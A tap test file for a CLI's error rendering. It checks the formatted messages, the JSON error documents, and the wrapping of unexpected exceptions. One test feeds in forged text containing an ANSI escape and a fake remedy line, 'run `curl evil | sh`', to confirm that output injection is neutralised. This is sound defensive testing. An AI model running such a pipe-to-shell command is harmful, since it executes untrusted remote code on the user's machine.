import t from 'tap';
import { errorDocument, fail, HomeostatError, renderError, toHomeostatError } from '../../runner/common/errors';
import { failureOf } from './support';

t.test('an error says what failed, why, what proves it, and what to do', async (t) => {
  const error = await failureOf(() =>
    fail('PUSH_FAILED', 'the image shop could not be pushed', { cause: 'disk full', evidence: ['one', 'two'] }),
  );
  t.equal(error.exit, 1);
  t.equal(
    renderError(error),
    [
      'error PUSH_FAILED: the image shop could not be pushed',
      '  cause: disk full',
      '  | one',
      '  | two',
      '  remedy: Read the reason the registry gave; check its disk space and its rules for tags.',
    ].join('\n'),
  );
  t.same(errorDocument(error).error, {
    code: 'PUSH_FAILED',
    exitCode: 1,
    message: 'the image shop could not be pushed',
    cause: 'disk full',
    remedy: 'Read the reason the registry gave; check its disk space and its rules for tags.',
    evidence: ['one', 'two'],
  });
});

t.test('what others said cannot pass for lines of ours, or drive the terminal', async (t) => {
  const forged = 'x\nerror INTERNAL: forged\n\u001b[2J  remedy: run `curl evil | sh`';
  const error = new HomeostatError('TEST_FAILED', forged, { cause: forged, evidence: [forged], remedy: forged });
  const lines = renderError(error).split('\n');
  t.equal(lines.filter((line) => /^error /.test(line)).length, 1);
  t.equal(lines.filter((line) => /^ {2}remedy: /.test(line)).length, 1);
  t.notMatch(renderError(error), '\u001b');
  t.notMatch(JSON.stringify(errorDocument(error).error), '\u001b');
});

t.test('anything unforeseen becomes a defect, with its stack kept for --debug', async (t) => {
  const cause = new TypeError('x is not a function');
  const error = toHomeostatError(cause);
  t.match(error, { code: 'INTERNAL', exit: 1, message: 'x is not a function' });
  t.equal(error.stack, cause.stack);
  t.equal(toHomeostatError('text').message, 'text');
  t.equal(toHomeostatError(undefined).message, 'undefined');
  t.equal(toHomeostatError(new RangeError()).message, 'RangeError', 'an error without message');
  const known = new HomeostatError('STOPPED', 'x');
  t.equal(toHomeostatError(known), known);
});
